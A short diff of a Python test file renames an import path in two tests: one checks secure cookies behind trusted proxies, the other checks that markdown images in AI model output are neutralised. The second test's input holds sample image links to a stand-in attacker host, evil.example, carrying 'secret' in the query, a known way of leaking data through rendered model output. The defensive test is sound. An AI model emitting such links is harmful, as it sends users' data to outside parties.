@@ -215,7 +215,7 @@ _PROXIED_HTTPS = [(b"x-forwarded-proto", b"https")]
 async def test_cookies_are_secure_over_https(scope: dict[str, object], secure: bool) -> None:
     import ipaddress
 
-    from chorus.webguard import SecureCookies, TrustedProxies
+    from chorus.web.guard import SecureCookies, TrustedProxies
 
     app = TrustedProxies(SecureCookies(_sets_cookie), [ipaddress.ip_network("10.0.0.0/8")])
     sent = await _call(app, scope)
@@ -224,7 +224,7 @@ async def test_cookies_are_secure_over_https(scope: dict[str, object], secure: b
 
 
 def test_markdown_images_in_model_output_become_text_even_when_streamed_in_pieces() -> None:
-    from chorus.webguard import ImageGuard, neutralise_images
+    from chorus.web.guard import ImageGuard, neutralise_images
 
     text = "see ![x](https://evil.example/?q=secret) and ![y][r]\n\n[r]: https://evil.example/r.png!"
     assert "![" not in neutralise_images(text)
